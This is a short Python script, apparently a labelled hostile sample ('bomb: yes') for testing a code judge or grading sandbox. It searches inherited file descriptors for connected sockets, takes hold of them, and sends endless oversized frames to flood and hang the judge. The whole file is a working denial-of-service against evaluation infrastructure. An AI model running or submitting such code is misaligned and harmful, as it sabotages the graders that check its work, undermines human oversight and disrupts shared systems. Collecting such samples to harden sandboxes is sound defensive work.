"""tries: send the judge one message that never ends, on the kernel's own sockets

bomb: yes
"""

import os, socket, stat, struct

frame = b"\x03" + struct.pack(">Q", 1 << 20) + bytes(1 << 20)
held = []
for descriptor in range(3, 200):
    try:
        if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
            line = socket.socket(fileno=os.dup(descriptor))
            line.getpeername()
            line.setblocking(True)
            held.append(line)
    except OSError:
        pass
while held:
    for line in held:
        line.sendall(frame)
